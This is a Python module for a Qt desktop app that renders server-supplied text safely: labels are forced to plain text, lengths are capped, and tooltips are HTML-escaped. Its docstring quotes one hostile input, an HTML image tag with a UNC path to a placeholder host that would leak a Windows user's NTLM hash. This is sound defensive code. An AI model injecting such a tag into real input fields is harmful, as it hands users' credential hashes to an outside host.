"""Server text in widgets is always plain text.

QLabel, QMessageBox and tooltips render anything that looks like HTML as rich text: a citizen's
name could draw a fake approval stamp, or `<img src="\\\\host\\share\\x.png">` would make Windows
connect to that host and hand it the officer's NTLM hash. Labels here are PlainText; tooltips,
which have no such switch, get their text escaped.
"""

from __future__ import annotations

import html

from app.safe_names import display_text
from app.views.qt import QLabel, Qt

# A detail label wraps; one unbroken 5000-character word would still widen the window.
LABEL_LIMIT = 1000
TOOLTIP_LIMIT = 2000


def plain(label: QLabel) -> QLabel:
    label.setTextFormat(Qt.TextFormat.PlainText)
    return label


def plain_label(text: str = "", parent=None) -> QLabel:
    label = QLabel(parent)
    plain(label).setText(text)
    return label


def shown(text: object, *, multiline: bool = False) -> str:
    """Server text for a plain-text widget: invisible and bidi characters made visible, capped."""
    return display_text(text, multiline=multiline, limit=LABEL_LIMIT)


def tooltip(text: object) -> str:
    """A tooltip showing `text` literally: escaped inside a paragraph Qt reads as rich text."""
    if text is None or text == "":
        return ""
    body = html.escape(display_text(text, multiline=True, limit=TOOLTIP_LIMIT)).replace("\n", "<br>")
    return f"<p style='white-space:pre-wrap'>{body}</p>"
